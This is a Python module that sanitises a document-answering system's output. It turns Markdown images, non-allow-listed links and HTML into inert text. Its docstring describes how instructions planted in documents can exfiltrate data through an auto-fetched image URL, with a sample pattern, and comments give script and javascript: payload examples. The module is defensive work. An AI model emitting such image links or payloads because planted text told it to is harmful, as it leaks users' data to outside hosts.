"""What an answer may carry out of the system: text that stays inert in any client that renders Markdown.

Answers quote documents, and a document may hold a Markdown image whose URL a renderer fetches on sight (the
exfiltration pattern of planted instructions: ``![status](http://host/log?q=...)``), links to anywhere, or
HTML (``<script>``, ``<img onerror=...>``). ``inert`` rewrites the answer text so that none of it is live:

- images are never shown: ``![alt](url)`` becomes ``(image: alt)``;
- a link keeps its text, and stays a link only when it is http(s) to a host of the allow-list
  (``settings.link_hosts``, empty by default); a bare or ``<...>`` URL to another host is put in a code span,
  where no renderer makes it a link;
- HTML tags and comments are removed (the content of ``script`` and ``style`` elements with them).

All of it wherever it stands, in what looks like a code span too: a link's destination and an HTML tag outrank
code spans in CommonMark, so a span seen in the text may not be one. Only the answer text is changed: citations
keep the document's text and offsets, which are data for clients to escape.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass
from urllib.parse import urlsplit

# What the notes say, per kind of thing neutralised.
IMAGE = "an image from the documents was shown as text"
LINK = "a link from the documents was shown as text"
MARKUP = "HTML markup from the documents was removed"
_ORDER = (IMAGE, LINK, MARKUP)

# Link text may hold one level of brackets ('[see [1]](url)'); a destination is '<...>' or has balanced parens.
_TEXT = r"\[((?:[^\[\]\\]|\\.|\[[^\[\]]*\])*)\]"
_DESTINATION = r"\(\s*(<[^<>\n]*>|(?:[^\s()\\]|\\.|\([^\s()]*\))*)(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
_INLINE_IMAGE = re.compile(r"!" + _TEXT + _DESTINATION)
# '![alt][ref]' or '![alt]' (not a citation marker after an exclamation mark: 'It exploded![1]').
_REFERENCE_IMAGE = re.compile(r"!(?!\[\d+(?:\s*,\s*\d+)*\])" + _TEXT + r"(?:\[[^\[\]\n]*\])?")
_INLINE_LINK = re.compile(_TEXT + _DESTINATION)
# '[label]: url' defines a link target every '[label]' of the text then points at. It must open a line, but
# inside a quote or a list item that line starts with '>' or '- ': looked for anywhere, to be safe.
_DEFINITION = re.compile(r"\[([^\[\]]+)\]:\s*(<[^<>\n]*>|[^\s<>]+)")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*|[^\s<>@]+@[^\s<>@]+\.[^\s<>@]+)>")
# The opening of a link to a script or data URL that no closing parenthesis completes ('[1](javascript:alert(1)'):
# CommonMark leaves it as text, a lenient renderer may not, so its '](' is parted in any case.
_SCRIPT_LINK_OPENING = re.compile(r"\]\((?=\s*<?\s*(?:javascript|data|vbscript):)", re.IGNORECASE)
# What GFM and linkify make a link with no markup at all.
_BARE_URL = re.compile(r"(?:(?:https?|ftp)://|(?<![^\W_])www\.)[^\s<>`]*[^\s<>`.,;:!?'\")\]]")
_DROPPED_ELEMENT = re.compile(r"<(script|style)\b[^>]*>.*?(?:</\1\s*>|$)", re.IGNORECASE | re.DOTALL)
_TAG = re.compile(
    r"<!--.*?(?:-->|$)|<!\[CDATA\[.*?(?:\]\]>|$)|<[?!][^>]*>|</?[A-Za-z][A-Za-z0-9-]*(?:[\s/][^<>]*)?>",
    re.DOTALL,
)


@dataclass(frozen=True)
class Inert:
    """Text made safe to render, and what was neutralised in it (notes for the reader, in a fixed order)."""

    text: str
    notes: tuple[str, ...] = ()


def inert(text: str, allowed_hosts: Iterable[str] = ()) -> Inert:
    """``text`` with no live image, no link outside ``allowed_hosts`` and no HTML, and what was changed."""
    hosts = frozenset(host.strip().lower().rstrip(".") for host in allowed_hosts if host.strip())
    found: set[str] = set()
    # Removing one construct can join the pieces of another ('!<b>[a](u)' -> '![a](u)'): repeat until stable.
    for _ in range(8):
        cleaned = _once(text, hosts, found)
        if cleaned == text:
            break
        text = cleaned
    text = _bare_urls_to_code(text, hosts, found)
    return Inert(text, tuple(note for note in _ORDER if note in found))


def inert_all(texts: Iterable[str], allowed_hosts: Iterable[str] = ()) -> tuple[list[str], tuple[str, ...]]:
    """Each of ``texts`` made inert, and the notes of all of them together."""
    hosts = list(allowed_hosts)
    results = [inert(text, hosts) for text in texts]
    notes = {note for result in results for note in result.notes}
    return [result.text for result in results], tuple(note for note in _ORDER if note in notes)


def allowed(url: str, hosts: frozenset[str]) -> bool:
    """An http(s) URL to one of ``hosts`` (or a subdomain of one)."""
    url = url.strip().strip("<>")
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").rstrip(".")
    except ValueError:
        return False
    if parts.scheme.lower() not in {"http", "https"} or not host:
        return False
    return any(host == allowed_host or host.endswith("." + allowed_host) for allowed_host in hosts)


def _once(text: str, hosts: frozenset[str], found: set[str]) -> str:
    def note(kind: str, replacement: str) -> str:
        found.add(kind)
        return replacement

    def image(match: re.Match[str]) -> str:
        alt = " ".join(match.group(1).split())
        return note(IMAGE, f"(image: {alt})" if alt else "(image)")

    def link(match: re.Match[str]) -> str:
        return match.group() if allowed(match.group(2), hosts) else note(LINK, match.group(1))

    def definition(match: re.Match[str]) -> str:
        if allowed(match.group(2), hosts):
            return match.group()
        return note(LINK, f"{match.group(1)}: {match.group(2).strip('<>')}")  # its URL goes in code below

    def autolink(match: re.Match[str]) -> str:
        return match.group() if allowed(match.group(1), hosts) else note(LINK, match.group(1))

    text = _without_markup(text, found)
    text = _AUTOLINK.sub(autolink, text)
    text = _INLINE_IMAGE.sub(image, text)
    text = _REFERENCE_IMAGE.sub(image, text)
    text = _INLINE_LINK.sub(link, text)
    text = _SCRIPT_LINK_OPENING.sub(lambda _: note(LINK, "] ("), text)
    return _DEFINITION.sub(definition, text)


def _bare_urls_to_code(text: str, hosts: frozenset[str], found: set[str]) -> str:
    """``text`` with each bare URL not to ``hosts`` put in a code span, where no renderer links it.

    The span's fence is longer than any backtick run of the text, so no other run can close it: the URL is in
    this span, or in a longer one around it. Code spans already in the text are not looked for (a link's
    destination or an HTML tag would outrank them): a URL in one gets a span of its own inside, still inert.
    """
    fence = "`" * (max((len(run) for run in re.findall(r"`+", text)), default=0) + 1)

    def bare(match: re.Match[str]) -> str:
        url = match.group()
        if allowed(url if "://" in url else "http://" + url, hosts):
            return url
        found.add(LINK)
        # A backtick against the fence would lengthen it, a backslash escape it: a space keeps them apart.
        before = " " if match.start() > 0 and text[match.start() - 1] in "`\\" else ""
        after = " " if text[match.end() : match.end() + 1] == "`" else ""
        return f"{before}{fence}{url}{fence}{after}"

    return _BARE_URL.sub(bare, text)


def _without_markup(text: str, found: set[str]) -> str:
    """The text without HTML tags, comments and script or style elements; a tag between two words leaves one
    space ('See <b>this</b> now' -> 'See this now')."""
    cleaned = _TAG.sub("", _DROPPED_ELEMENT.sub("", text))
    if cleaned == text:
        return text
    found.add(MARKUP)
    return re.sub(r"(?<=\S) {2,}(?=\S)", " ", cleaned)
